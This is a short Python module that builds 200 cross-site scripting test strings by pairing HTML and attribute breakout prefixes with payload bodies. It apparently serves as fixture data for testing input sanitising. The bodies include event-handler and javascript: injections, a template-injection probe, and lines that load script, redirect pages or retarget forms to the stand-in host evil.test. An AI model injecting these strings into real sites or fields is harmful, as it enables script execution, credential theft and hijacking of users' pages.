"""What do people write who want to run something in a volunteer's browser? 200 texts: each body behind each way out."""

from itertools import product

WAYS_OUT = ("", '">', "'>", "</textarea>", "</title></script>", "-->", "]]></blockquote>", "`}}'\" ")
BODIES = (
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<ScRiPt>alert`1`</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1) autofocus>ice</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.test/x.swf>",
    "<math href=javascript:alert(1)>x</math>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><button autofocus>Release</button></form>",
    "<style>@import '//evil.test/x.css';*{display:none}</style>",
    "<div hx-get=/console/me hx-trigger=load hx-on:click=alert(1)>",
    "{{ self.__init__.__globals__ }}${alert(1)}#{7*7}{% raw %}",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
)
TEXTS = tuple(f"{way}{body}" for way, body in product(WAYS_OUT, BODIES))
NAMES = tuple(text for text in TEXTS if len(text) <= 40)
"""Those that fit where only a name does."""
